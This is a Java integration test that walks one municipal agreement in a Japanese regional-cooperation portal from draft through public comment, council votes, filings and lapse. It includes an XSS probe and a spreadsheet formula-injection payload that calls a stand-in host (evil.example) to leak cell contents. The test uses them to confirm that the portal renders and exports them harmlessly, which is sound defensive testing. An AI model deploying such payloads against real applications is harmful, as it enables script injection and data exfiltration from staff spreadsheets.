package jp.renkei.portal.it.agreement;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.time.LocalDate;
import java.time.LocalTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import jp.renkei.portal.it.pages.Header;
import jp.renkei.portal.it.pages.KeycloakLoginPage;
import jp.renkei.portal.it.pages.agreement.AgreementDetailPage;
import jp.renkei.portal.it.pages.agreement.AgreementDiffPage;
import jp.renkei.portal.it.pages.agreement.AgreementEditPage;
import jp.renkei.portal.it.pages.agreement.AgreementEditPage.InitiativeRow;
import jp.renkei.portal.it.pages.agreement.AgreementListPage;
import jp.renkei.portal.it.pages.circle.CircleHomePage;
import jp.renkei.portal.it.pages.feedback.FeedbackSection;
import jp.renkei.portal.it.pages.feedback.ModerationPage;
import jp.renkei.portal.it.pages.inbox.FollowSection;
import jp.renkei.portal.it.support.Browser;
import jp.renkei.portal.it.support.Callers;
import jp.renkei.portal.it.support.Mailbox;
import jp.renkei.portal.it.support.PortalHttp;
import jp.renkei.portal.it.support.Rendered;
import jp.renkei.portal.it.support.StackExtension;
import jp.renkei.portal.it.support.TestStack;
import jp.renkei.portal.it.support.TestingHooks;
import jp.renkei.portal.platform.time.OfficialDates;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * An agreement from the first draft to the filings, in Chromium as the central city's office, and
 * what the public sees at each step: nothing of the draft, then the published draft, then the
 * concluded agreement — on the page, in the notices, the feed and the API. The scenes run in order
 * on one agreement.
 */
@ExtendWith(StackExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class AgreementJourneyIT {

  private static final String AOMORI = "aomori";
  private static final String YOMOGITA = "023051";
  private static final String TODAY = LocalDate.now(ZoneId.of("Asia/Tokyo")).toString();

  private final TestStack stack;
  private static final String VISITOR = "visitor-" + System.nanoTime() + "@example.jp";

  private final PortalHttp publicVisitor;
  private final Mailbox mailbox;
  private Browser office;
  private long id;

  AgreementJourneyIT(TestStack stack) {
    this.stack = stack;
    this.publicVisitor = PortalHttp.anonymous(stack);
    this.mailbox = new Mailbox(stack);
  }

  @BeforeAll
  void signInTheCentralCity() {
    office = Browser.open(stack);
    AgreementListPage.open(office, AOMORI).header().signIn("aomori-mayor");
  }

  @AfterAll
  void close() {
    office.close();
  }

  private String page() {
    return "/c/aomori/agreements/" + id;
  }

  @Test
  @Order(10)
  void theCentralCityStartsADraftWithYomogita() {
    AgreementEditPage editor = AgreementListPage.open(office, AOMORI).startWith(YOMOGITA);
    id = editor.idAfter("agreements");

    editor
        .purpose("圏域の発展を目的とする。<b>太字ではない</b>")
        .basicPolicy("相互に役割を分担し連携する。")
        .execution("費用の分担は取組ごとに協議の上定める。")
        .consultation("市長及び村長は定期的に協議する。")
        .term("期間は定めない。甲又は乙は、議会の議決を経て通告することができ、通告の日から2年を経過した日に効力を失う。")
        .addInitiative(0, AgreementEditPage.COMPLETE_INITIATIVES.get(0))
        // A line with text but no field: refused with a message, nothing saved.
        .addInitiative(1, new InitiativeRow("", "高等教育", "人材育成", "大学との調整", "受入れ"));
    editor.save();
    assertTrue(editor.messages().contains("政策分野（ア a～e"), editor.messages());
    editor.removeInitiative(1).addCompleteInitiatives(1);
    editor.save();

    office.waitForUrlContaining(page());
    AgreementDetailPage detail = new AgreementDetailPage(office);
    assertTrue(detail.messages().contains("案を保存しました"));
    assertTrue(detail.purpose().contains("<b>太字ではない</b>"), "user text must be shown as text");
    assertFalse(detail.checklist().contains("未記載"), detail.checklist());
    String initiatives = detail.initiatives();
    assertTrue(initiatives.contains("ウ-A-a 地域医療"), initiatives);
    assertTrue(
        initiatives.contains("青森市：研修の実施") && initiatives.contains("蓬田村：医療従事者の参加"), initiatives);
  }

  @Test
  @Order(20)
  void theDraftIsNobodyElsesBusinessYet() {
    assertEquals(404, publicVisitor.get(page()).statusCode());

    String list = Rendered.page(publicVisitor.get("/c/aomori/agreements"), "agreement-list");
    String api = Rendered.json(publicVisitor.get("/api/v1/circles/aomori/agreements"), 200);

    assertFalse(list.contains("蓬田村"));
    assertFalse(api.contains(YOMOGITA));
    assertEquals(404, Callers.as(stack, "hiranai-staff").get(page()).statusCode());
  }

  @Test
  @Order(30)
  void residentsAreToldWithACommentPeriod() {
    AgreementDetailPage detail = AgreementDetailPage.open(office, AOMORI, id);

    detail.notifyResidents(TODAY, TODAY);

    assertTrue(detail.status().contains("意見募集中"));
    assertEquals(200, publicVisitor.get(page()).statusCode());
    assertTrue(
        publicVisitor.get("/c/aomori/notices").body().contains("蓬田村との連携協約（締結）の案について意見を募集します"));
    assertTrue(publicVisitor.get("/c/aomori/notices.atom").body().contains("蓬田村との連携協約"));
    assertTrue(
        publicVisitor.get("/c/aomori/notices").body().contains("href=\"" + page() + "#feedback\""),
        "the draft's notice opens the page at its comment form");
  }

  @Test
  @Order(32)
  void theDraftPutToResidentsIsSearchableWithinSeconds() throws InterruptedException {
    long until = System.nanoTime() + 5_000_000_000L;
    String found = "";
    while (System.nanoTime() < until && !found.contains(page())) {
      found =
          publicVisitor
              .get("/search?q=" + java.net.URLEncoder.encode("太字ではない", StandardCharsets.UTF_8))
              .body();
      Thread.sleep(250);
    }
    assertTrue(found.contains(page()), "searchable within 5 s:\n" + found);
  }

  @Test
  @Order(35)
  void aVisitorFollowsByAddressOnlyOnceTheAddressConfirmed() {
    try (Browser visitor = Browser.open(stack, 390, 844)) {
      visitor.visit("/c/aomori/");
      FollowSection follow = new FollowSection(visitor);
      follow.followByEmail("not an address");
      assertTrue(follow.messages().contains("メールアドレスの形式が正しくありません"), follow.messages());
      new FollowSection(visitor).followByEmail(VISITOR);
      assertTrue(new FollowSection(visitor).messages().contains("確認のメールを送りました"));

      Mailbox.Mail confirm = mailbox.await(VISITOR, "メール配信の確認");
      assertEquals(1, mailbox.to(VISITOR).size(), "nothing but the confirmation before it is used");
      visitor.visit(confirm.linkTo("/follow/confirm"));
      assertTrue(visitor.pageText().contains("確認できました"), visitor.pageText());
      visitor.visit("/follow/confirm?token=forged");
      assertTrue(visitor.pageText().contains("このリンクは無効です"), visitor.pageText());
    }
  }

  @Test
  @Order(40)
  void aResidentOnAPhoneCommentsAndFloodingIsThrottled() {
    try (Browser resident = Browser.open(stack, 390, 844)) {
      resident.visit(page());
      FeedbackSection feedback = new FeedbackSection(resident);
      feedback.signInToComment();
      new KeycloakLoginPage(resident).signIn("resident", PortalHttp.DEMO_PASSWORD);
      resident.waitForUrlContaining(page());
      new FollowSection(resident).follow();
      assertTrue(new FollowSection(resident).messages().contains("フォローしました"));
      assertTrue(new FollowSection(resident).isFollowing());

      feedback.comment("PURPOSE", "目的をもっと具体的に書いてください。<script>alert(1)</script>");
      String receipt = feedback.messages();
      assertTrue(receipt.contains("ご意見を受け付けました"), receipt);
      assertTrue(receipt.matches("(?s).*受付番号は \\d+ です.*"), "a number to quote: " + receipt);
      assertTrue(
          receipt.contains("目的をもっと具体的に書いてください。<script>alert(1)</script>"),
          "what was received, as text: " + receipt);
      feedback.comment("", "ばかげた案だ");
      // A formula as a resident might type it to attack the staff's Excel.
      feedback.comment("INITIATIVES", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"交通の取組も\")");
      feedback.comment("", "四つ目の意見");

      assertTrue(feedback.messages().contains("10分ほどおいて"), "flooding must be throttled");
    }
  }

  @Test
  @Order(41)
  void onAPhoneEachInitiativeReadsAsACardUnderItsColumnNames() {
    try (Browser phone = Browser.open(stack, 390, 844);
        Browser desktop = Browser.open(stack, 1280, 900)) {
      phone.visit(page());
      desktop.visit(page());
      AgreementDetailPage onPhone = new AgreementDetailPage(phone);
      AgreementDetailPage onDesktop = new AgreementDetailPage(desktop);
      assertTrue(onPhone.initiatives().contains("ウ-A-a 地域医療"), onPhone.initiatives());
      assertTrue(onDesktop.initiatives().contains("ウ-A-a 地域医療"), onDesktop.initiatives());

      // Four columns on a 390 px screen left the text a few characters wide; a card gives it the
      // width of the screen, under the column's name.
      int onPhoneWidth = onPhone.firstInitiativeContentWidth();
      assertTrue(onPhoneWidth >= 300, "the content spans the card: " + onPhoneWidth + " px");
      assertTrue(
          onPhone.firstInitiativeContentLabel().contains("取組内容"),
          onPhone.firstInitiativeContentLabel());
      int onDesktopWidth = onDesktop.firstInitiativeContentWidth();
      assertTrue(onDesktopWidth < 500, "a column of the table: " + onDesktopWidth + " px");
      assertEquals("none", onDesktop.firstInitiativeContentLabel());
    }
  }

  @Test
  @Order(42)
  void threeDaysBeforeThePeriodClosesItsFollowersAreRemindedOnce() {
    String closing =
        "蓬田村との連携協約（締結）の案への意見募集は"
            + OfficialDates.format(LocalDate.parse(TODAY), Locale.JAPANESE)
            + "までです";
    TestingHooks hooks = new TestingHooks(stack);
    try {
      hooks.remindOn(LocalDate.parse(TODAY).minusDays(4));
      Mailbox.settle();
      assertTrue(mailbox.find("resident", closing).isEmpty(), "not four days before");

      hooks.remindOn(LocalDate.parse(TODAY).minusDays(3));

      Mailbox.Mail reminder = mailbox.await("resident", closing);
      assertTrue(reminder.text().contains("青森圏域連携中枢都市圏の蓬田村との連携協約"), reminder.text());
      assertTrue(
          reminder.linkTo(page()).startsWith(page()), "the draft's page: " + reminder.text());
      mailbox.await(VISITOR, closing);
      Mailbox.settle();
      assertEquals(1, mailbox.find("resident", closing).size(), "the follower, once");
      assertEquals(1, mailbox.find(VISITOR, closing).size(), "the circle's follower, once");
      for (String notAFollower :
          List.of(
              "aomori-mayor", "hiranai-staff", "hiranai-council", "aomori-pref", "noheji-staff")) {
        assertTrue(
            mailbox.find(notAFollower, "蓬田村との連携協約").stream()
                .noneMatch(m -> m.subject().contains("意見募集は")),
            notAFollower + " follows nothing and is not reminded");
      }
    } finally {
      hooks.resetClock();
    }
  }

  @Test
  @Order(45)
  void everyReaderGetsTheSameClausesWithTheirOwnForm() {
    PortalHttp resident = Callers.as(stack, "resident");
    String first = Rendered.page(resident.get(page()), "agreement-text");
    String again = Rendered.page(resident.get(page()), "agreement-text");
    String visitors = Rendered.page(publicVisitor.get(page()), "agreement-text");

    assertTrue(article(first).contains("蓬田村"), first);
    assertEquals(article(first), article(again), "the kept clauses are those rendered");
    assertEquals(article(first), article(visitors), "a visitor reads the same clauses");
    assertTrue(again.contains("id=\"feedback-form\""), "and the resident still their form");
    assertTrue(again.contains("id=\"version-status\""), again);
    String party = Rendered.page(Callers.as(stack, "aomori-mayor").get(page()), "agreement-text");
    assertTrue(party.contains("id=\"council-review\""), "the parties keep their own parts");
    assertFalse(again.contains("id=\"council-review\""), again);
  }

  private static String article(String page) {
    return page.substring(page.indexOf("<article"), page.indexOf("</article>"));
  }

  @Test
  @Order(50)
  void theCentralCityHidesAnAbusiveOpinionAnswersAndExports() {
    ModerationPage moderation = ModerationPage.of(office, page());

    moderation.hide(moderation.itemContaining("ばかげた案だ"), "誹謗中傷を含むため");
    assertTrue(moderation.messages().contains("非表示にしました"));
    moderation.respond(moderation.itemContaining("目的をもっと具体的に"), "ご意見を踏まえ、目的を明確にします。");
    assertTrue(moderation.messages().contains("回答を保存しました"));

    HttpResponse<byte[]> csv = Callers.as(stack, "aomori-mayor").getBytes(page() + "/feedback.csv");
    assertEquals(200, csv.statusCode());
    assertEquals((byte) 0xEF, csv.body()[0], "UTF-8 byte order mark for Excel");
    String csvText = new String(csv.body(), StandardCharsets.UTF_8);
    assertTrue(csvText.contains("誹謗中傷を含むため") && csvText.contains("目的をもっと具体的に"), csvText);
    assertTrue(csvText.contains("\"'=HYPERLINK("), "the formula is neutralised: " + csvText);
    assertFalse(csvText.contains(",=HYPERLINK") || csvText.contains(",\"=HYPERLINK"), csvText);
    assertEquals(
        403, Callers.as(stack, "hiranai-staff").get(page() + "/feedback.csv").statusCode());
  }

  @Test
  @Order(55)
  void theResidentHearsOfTheResponseByMailAndFindsItOnTheirPage() {
    Mailbox.Mail answered = mailbox.await("resident", "ご意見に回答がありました");
    assertTrue(answered.text().contains("目的を明確にします"), answered.text());
    assertTrue(answered.text().contains("<script>alert(1)</script>"), "plain text, as typed");
    assertTrue(
        answered.linkTo("/c/aomori/agreements/" + id).startsWith("/c/aomori/agreements/" + id));

    String me = Rendered.page(Callers.as(stack, "resident").get("/me"), "opinions-heading");
    assertTrue(me.contains("回答があります") && me.contains("目的を明確にします"), me);
    assertTrue(me.contains("連携協約"), "the follow is listed");
    assertTrue(me.contains("（青森圏域連携中枢都市圏・"), "each opinion says its circle and when");
    assertFalse(
        Rendered.page(Callers.as(stack, "aomori-mayor").get("/me"), "opinions-heading")
            .contains("目的をもっと具体的に"),
        "only one's own opinions");
  }

  @Test
  @Order(60)
  void theDraftGoesToTheCouncilsAndTheOpinionsArePublishedWithTheResponses() {
    AgreementDetailPage.open(office, AOMORI, id).submitToCouncils();
    assertTrue(new AgreementDetailPage(office).status().contains("議会審議中"));
    String readers = Rendered.page(Callers.as(stack, "resident").get(page()), "version-status");
    assertTrue(readers.contains("議会審議中"), "a reader sees the step at once, not the kept page");

    String closed = Rendered.page(publicVisitor.get(page()), "feedback-closed");
    assertTrue(closed.contains("意見募集は") && closed.contains("締め切りました"), closed);
    assertTrue(closed.contains("id=\"feedback-response-pending\""), "says it is still to come");
    assertFalse(closed.contains("id=\"opinions-and-responses\""), closed);

    // A popular draft: hundreds more residents commented. Their names once went into the
    // announcement's row, which holds 2,000 characters: the publication failed from about ninety.
    int others = manyMoreResidentsCommented(300);
    assertEquals(300, others);
    ModerationPage moderation = ModerationPage.of(office, page());
    moderation.publishSummary();

    assertTrue(moderation.summaryPublished());
    String answered = Rendered.page(publicVisitor.get(page()), "opinions-and-responses");
    assertTrue(answered.contains("寄せられたご意見と考え方"), answered);
    assertTrue(answered.contains("目的を明確にします"), "the responses on the document's page");
    assertFalse(answered.contains("ばか"), "a hidden opinion is not shown");
    assertFalse(answered.contains("id=\"feedback-response-pending\""), answered);
    assertTrue(
        answered.contains("/c/aomori/notices#notice-"), "and the notice it was published in");
    assertTrue(
        publicVisitor.get("/c/aomori/notices").body().contains(page() + "#opinions-and-responses"),
        "the notice of the responses opens them on the document's page");
    String responses = Rendered.pdfText(publicVisitor.getBytes(page() + "/opinions.pdf"));
    assertTrue(responses.contains("意見と考え方") && responses.contains("目的を明確にします"), responses);
    assertFalse(responses.contains("ばか"), "a hidden opinion is not printed");
  }

  @Test
  @Order(61)
  void theObservingPrefectureReadsEveryShownOpinionFiftyAtATime() {
    PortalHttp prefecture = Callers.as(stack, "aomori-pref");
    List<String> read = new ArrayList<>();
    String path = page();
    String laterPage = null;
    int pages = 0;
    while (path != null) {
      Element summary =
          Jsoup.parse(Rendered.page(prefecture.get(path), "received-opinions"))
              .getElementById("feedback-summary");
      assertTrue(summary.selectFirst("h3").text().contains("古い順に50件ずつ"), summary.html());
      List<String> items = summary.select("#received-opinions > li").eachText();
      assertTrue(!items.isEmpty() && items.size() <= 50, path + ": " + items.size());
      read.addAll(items);
      assertEquals(pages > 0, summary.getElementById("first-opinions") != null, path);
      Element next = summary.getElementById("next-opinions");
      path = next == null ? null : next.attr("href").replaceFirst("^.*(/c/aomori/)", "$1");
      if (path != null) {
        assertTrue(path.startsWith(page() + "?opinions="), path);
        path = path.substring(0, path.indexOf('#'));
        laterPage = laterPage == null ? path : laterPage;
      }
      pages++;
    }

    List<String> popular = read.stream().filter(t -> t.startsWith("路線バスを増やしてほしい（")).toList();
    assertEquals(300, popular.size(), "every one of the many: " + pages + " pages");
    assertEquals(300, popular.stream().distinct().count(), "each once");
    assertEquals("路線バスを増やしてほしい（300）", read.get(read.size() - 1), "oldest first");
    assertTrue(read.stream().anyMatch(t -> t.contains("目的をもっと具体的に")), "and the first ones");
    assertFalse(read.stream().anyMatch(t -> t.contains("ばか")), "a hidden one stays hidden");
    for (String notAReader : List.of("hiranai-staff", "resident", "nagano-mayor")) {
      String later = Rendered.page(Callers.as(stack, notAReader).get(laterPage), "feedback");
      assertFalse(later.contains("id=\"feedback-summary\""), notAReader + " reads no opinions");
      assertFalse(later.contains("id=\"first-opinions\""), notAReader + ": no pages of them");
    }
  }

  /**
   * Opinions of this many other residents on the draft, given after the ones on the page, as a
   * popular draft draws them; returns how many were added.
   */
  private int manyMoreResidentsCommented(int residents) {
    try (Connection db = TestStack.database();
        PreparedStatement sql =
            db.prepareStatement(
                "INSERT INTO feedback (id, circle_id, subject_type, subject_id, author, body,"
                    + " submitted_at, hidden, lock_version)"
                    + " SELECT 90000000 + g, f.circle_id, f.subject_type, f.subject_id,"
                    + " 'commenter-' || g, '路線バスを増やしてほしい（' || g || '）',"
                    + " f.submitted_at + g * INTERVAL '1 second', FALSE, 0"
                    + " FROM (SELECT * FROM feedback WHERE subject_type = 'AGREEMENT_VERSION'"
                    + " AND subject_id IN (SELECT id FROM agreement_version WHERE agreement_id = ?)"
                    + " ORDER BY submitted_at DESC LIMIT 1) f, generate_series(1, ?) g")) {
      sql.setLong(1, id);
      sql.setInt(2, residents);
      return sql.executeUpdate();
    } catch (SQLException e) {
      throw new IllegalStateException(e);
    }
  }

  @Test
  @Order(62)
  void theAgreementPrintsAsADocument() {
    String page = Rendered.page(publicVisitor.get(page()), "pdf-link");
    assertTrue(page.contains("data-print=\"true\""), "a print button for the page itself");
    String pdf = Rendered.pdfText(publicVisitor.getBytes(page() + ".pdf?v=1"));
    assertTrue(pdf.contains("蓬田村との連携協約"), pdf);
    for (String clause : new String[] {"② 目的", "③ 基本方針", "④ 連携する取組と役割分担", "疑義の解決"}) {
      assertTrue(pdf.contains(clause), clause + " in: " + pdf);
    }
    assertTrue(pdf.contains("青森市") && pdf.contains("蓬田村"), "the parties: " + pdf);
    assertEquals(404, publicVisitor.getBytes(page() + ".pdf?v=99").statusCode());
    assertEquals(
        404,
        publicVisitor.getBytes("/c/aomori/agreements/999999.pdf").statusCode(),
        "no such agreement");
    String notices = publicVisitor.get("/c/aomori/notices").body();
    assertTrue(notices.contains("意見と考え方") && notices.contains("目的を明確にします"), notices);
    assertFalse(notices.contains("ばか"), "a hidden opinion was published");
  }

  @Test
  @Order(65)
  void followersAndAuthorsHearThatTheResponsesArePublished() {
    Mailbox.Mail summary = mailbox.await(VISITOR, "意見と考え方");
    assertTrue(summary.text().contains("目的を明確にします"), summary.text());
    assertFalse(summary.text().contains("ばか"), "a hidden opinion is not mailed");
    mailbox.await("resident", "意見と考え方を公表しました");
  }

  @Test
  @Order(70)
  void theAgreementIsConcludedOnlyAfterBothCouncilsResolved() {
    AgreementDetailPage detail = AgreementDetailPage.open(office, AOMORI, id);

    detail.conclude(TODAY);
    assertTrue(detail.messages().contains("両市町村の議会の議決がそろうまで締結できません"));
    detail.recordResolution("022012", TODAY, "議案第1号");
    assertTrue(detail.messages().contains("議決を記録しました"));
    detail.recordResolution(YOMOGITA, TODAY, "議案第7号");
    CircleHomePage before = CircleHomePage.open(office, AOMORI);
    assertTrue(before.neighboursInTalks().contains("蓬田村"), "in talks until concluded");
    assertFalse(before.partners().contains("蓬田村"));
    detail = AgreementDetailPage.open(office, AOMORI, id);
    detail.conclude(TODAY);

    assertTrue(detail.status().contains("締結済み"));
    CircleHomePage after = CircleHomePage.open(office, AOMORI);
    assertTrue(after.partners().contains("蓬田村"), "a partner once its agreement is in force");
    assertFalse(after.neighboursInTalks().contains("蓬田村"));
    AgreementDetailPage.open(office, AOMORI, id);
  }

  @Test
  @Order(75)
  void aWeekAfterTheConclusionThePartiesNotYetPromulgatedAreRemindedOnce() {
    String promulgation = "蓬田村との連携協約（締結）の告示が済んでいません";
    TestingHooks hooks = new TestingHooks(stack);
    try {
      hooks.remindOn(LocalDate.parse(TODAY).plusDays(6));
      Mailbox.settle();
      assertTrue(mailbox.find("aomori-mayor", promulgation).isEmpty(), "not after six days");

      hooks.remindOn(LocalDate.parse(TODAY).plusDays(7));
      Mailbox.Mail reminder = mailbox.await("aomori-mayor", promulgation);
      assertTrue(reminder.text().contains("要綱 第5(5)"), reminder.text());

      hooks.remindOn(LocalDate.parse(TODAY).plusDays(8));
      Mailbox.settle();
      assertEquals(1, mailbox.find("aomori-mayor", promulgation).size(), "reminded once");
      for (String notAParty :
          List.of("hiranai-staff", "hiranai-council", "aomori-pref", "resident", "noheji-staff")) {
        assertTrue(
            mailbox.find(notAParty, promulgation).isEmpty(),
            notAParty + " is not a party's office and is not reminded");
      }
    } finally {
      hooks.resetClock();
    }
  }

  @Test
  @Order(80)
  void bothMunicipalitiesGiveNoticeThenTheFilingsAreRecorded() {
    AgreementDetailPage detail = new AgreementDetailPage(office);

    detail.recordPromulgation("022012", "青森市告示第100号", TODAY);
    assertTrue(detail.messages().contains("告示を記録しました"));
    detail.recordPromulgation(YOMOGITA, "蓬田村告示第5号", TODAY);
    assertTrue(detail.status().contains("告示済み"));
    detail.recordFiling("022012>GOVERNOR:02", TODAY);
    assertTrue(detail.messages().contains("届出を記録しました"));
    detail.recordFiling("022012>MINISTRY", TODAY);
    assertFalse(detail.status().contains("届出済み"), "蓬田村's own 届出 is still missing");
    detail.recordFiling(YOMOGITA + ">GOVERNOR:02", TODAY);

    assertTrue(detail.status().contains("届出済み"));
    assertTrue(detail.record().contains("蓬田村 → 青森県知事"), detail.record());
  }

  @Test
  @Order(90)
  void anAmendmentShowsWhatChangedClauseByClause() {
    AgreementDetailPage detail = new AgreementDetailPage(office);

    detail.startAmendment();
    assertTrue(detail.versionNumber().contains("第2版"));
    AgreementEditPage editor = detail.edit();
    editor.purpose("圏域の持続的な発展を目的とする。").save();

    AgreementDiffPage diff = AgreementDiffPage.open(office, AOMORI, id, 1, 2);
    assertTrue(diff.inserted("PURPOSE").contains("持続的な"));
    assertTrue(diff.insertedAsHeard("PURPOSE").startsWith("追加："), diff.insertedAsHeard("PURPOSE"));
    // A version is never compared with itself.
    String itself =
        Rendered.page(
            Callers.as(stack, "aomori-mayor").get(page() + "/diff?from=2&to=2"), "diff-nothing");
    assertFalse(itself.contains("class=\"diff-clause"), itself);
    assertEquals(
        404,
        publicVisitor.get(page() + "/diff?from=1&to=2").statusCode(),
        "the amendment is still a draft");
  }

  @Test
  @Order(100)
  void aTerminationNoticeShowsTheLapseDateEverywhereTheAgreementAppears() {
    AgreementDetailPage detail = AgreementDetailPage.openVersion(office, AOMORI, id, 1);

    detail.notifyTermination(YOMOGITA, TODAY, TODAY);

    assertTrue(detail.lapseBanner().contains("失効予定日"), detail.lapseBanner());
    String publicPage = Rendered.page(publicVisitor.get(page()), "agreement-title");
    assertTrue(publicPage.contains("届出済み"));
    assertTrue(publicPage.contains("議案第7号"));
    assertTrue(publicPage.contains("失効予定日"));
    assertTrue(publicVisitor.get("/c/aomori/agreements").body().contains("失効予定日"));
    String api = Rendered.json(publicVisitor.get("/api/v1/circles/aomori/agreements/" + id), 200);
    assertTrue(api.contains("\"status\":\"FILED\""), api);
    assertTrue(api.contains("\"lapsesOn\":\"" + LocalDate.parse(TODAY).plusYears(2) + "\""), api);
    String notices = Rendered.json(publicVisitor.get("/api/v1/circles/aomori/notices"), 200);
    assertTrue(
        notices.contains("AGREEMENT_CONCLUDED") && notices.contains("AGREEMENT_PROMULGATED"),
        notices);
  }

  @Test
  @Order(105)
  void onTheLapseDateTheAgreementCeasesToBeInForceAndThePartnerIsInTalksAgain() {
    TestingHooks hooks = new TestingHooks(stack);
    try {
      hooks.moveClockTo(LocalDate.parse(TODAY).plusYears(2).minusDays(1), LocalTime.NOON);
      hooks.run("agreement-lapse");
      assertFalse(
          Rendered.page(publicVisitor.get(page()), "agreement-title").contains("失効しました"),
          "not the day before");

      hooks.moveClockTo(LocalDate.parse(TODAY).plusYears(2), LocalTime.NOON);
      hooks.run("agreement-lapse");
      hooks.run("agreement-lapse");

      String publicPage = Rendered.page(publicVisitor.get(page()), "agreement-title");
      assertTrue(publicPage.contains("失効しました"), publicPage);
      String api = Rendered.json(publicVisitor.get("/api/v1/circles/aomori/agreements/" + id), 200);
      assertTrue(api.contains("\"lapsed\":true") && api.contains("\"inForce\":false"), api);
      CircleHomePage home = CircleHomePage.open(office, AOMORI);
      assertTrue(home.neighboursInTalks().contains("蓬田村"), "no longer a partner");
      String notices = Rendered.json(publicVisitor.get("/api/v1/circles/aomori/notices"), 200);
      assertEquals(
          1,
          notices.split("AGREEMENT_LAPSED", -1).length - 1,
          "one notice, however often the job runs: " + notices);
    } finally {
      hooks.resetClock();
    }
  }

  @Test
  @Order(105)
  void onAPhoneEachInitiativeIsEditedAsACardOfLabelledFields() {
    try (Browser phone = Browser.open(stack, 390, 844);
        Browser desktop = Browser.open(stack, 1280, 900)) {
      for (Browser browser : List.of(phone, desktop)) {
        AgreementEditPage.open(browser, AOMORI, 1);
        new KeycloakLoginPage(browser).signIn("aomori-mayor", PortalHttp.DEMO_PASSWORD);
      }
      AgreementEditPage onPhone = new AgreementEditPage(phone);
      AgreementEditPage onDesktop = new AgreementEditPage(desktop);
      assertTrue(onPhone.isShown() && onDesktop.isShown(), "the draft's editor opened");

      // Six fields side by side scrolled sideways on a phone; a card gives each the screen's width,
      // under its own label.
      int onPhoneWidth = onPhone.initiativeFieldWidth(0, "content");
      assertTrue(onPhoneWidth >= 300, "the content field spans the card: " + onPhoneWidth + " px");
      assertEquals("取組内容", onPhone.shownLabelOf(0, "content"));
      assertEquals("役割分担：連携市町村", onPhone.shownLabelOf(0, "partner-role"));
      int onDesktopWidth = onDesktop.initiativeFieldWidth(0, "content");
      assertTrue(onDesktopWidth < 500, "a column of the table: " + onDesktopWidth + " px");
      assertEquals("", onDesktop.shownLabelOf(0, "content"), "the column's name labels it");
    }
  }

  @Test
  @Order(110)
  void aSecondSaveOverAnotherPersonsSaveIsRefusedAndNothingIsLost() {
    try (Browser central = Browser.open(stack);
        Browser partner = Browser.open(stack)) {
      AgreementEditPage.open(central, AOMORI, 1);
      new KeycloakLoginPage(central).signIn("aomori-mayor", PortalHttp.DEMO_PASSWORD);
      AgreementEditPage.open(partner, AOMORI, 1);
      new KeycloakLoginPage(partner).signIn("hiranai-staff", PortalHttp.DEMO_PASSWORD);
      AgreementEditPage centralEditor = new AgreementEditPage(central);
      AgreementEditPage partnerEditor = new AgreementEditPage(partner);
      assertTrue(centralEditor.isShown() && partnerEditor.isShown());

      centralEditor.disputes("青森市の修正").save();
      central.waitForUrlContaining("/c/aomori/agreements/1");
      partnerEditor.disputes("平内町の修正").save();

      assertTrue(partnerEditor.messages().contains("他の方が保存しています"));
      assertTrue(AgreementDetailPage.open(central, AOMORI, 1).disputes().contains("青森市の修正"));
    }
  }

  @Test
  @Order(120)
  void councilMembersCommentOnSingleClausesBeforeTheirVote() {
    try (Browser council = Browser.open(stack)) {
      council.visit("/c/aomori/");
      new Header(council).signIn("hiranai-council");
      AgreementDetailPage detail = AgreementDetailPage.open(council, AOMORI, 1);

      detail.commentOnClause("EXECUTION", "費用分担の考え方を議会に説明してください。");

      detail.waitForClauseComment("費用分担の考え方");
      assertTrue(detail.clauseComments().contains("執行"), "the comment names its clause");
      assertTrue(
          detail.commentsUnder("EXECUTION").contains("費用分担の考え方"),
          "and stands under the clause it is about");
    }
    String central =
        Rendered.page(
            Callers.as(stack, "aomori-mayor").get("/c/aomori/agreements/1"), "agreement-title");
    assertTrue(central.contains("費用分担の考え方"));
    String outsider =
        Rendered.page(
            Callers.as(stack, "nagano-mayor").get("/c/aomori/agreements/1"), "agreement-title");
    assertFalse(outsider.contains("費用分担の考え方"), "the version in force, without the draft");
  }

  @Test
  @Order(130)
  void aPartnerNeverSeesAnotherPartnersDraft() {
    PortalHttp hiranai = Callers.as(stack, "hiranai-staff");

    assertEquals(200, hiranai.get("/c/aomori/agreements/1").statusCode());
    assertEquals(404, hiranai.get("/c/aomori/agreements/5").statusCode());
    assertEquals(404, hiranai.get("/c/aomori/agreements/5/edit").statusCode());
    String list = Rendered.page(hiranai.get("/c/aomori/agreements"), "agreement-list");
    assertTrue(list.contains("今別町"), "今別町's agreement in force is public");
    assertFalse(list.contains("外ヶ浜町"), "外ヶ浜町's draft is the central city's");
    assertTrue(
        Callers.as(stack, "aomori-mayor").get("/c/aomori/agreements").body().contains("外ヶ浜町"));
  }
}
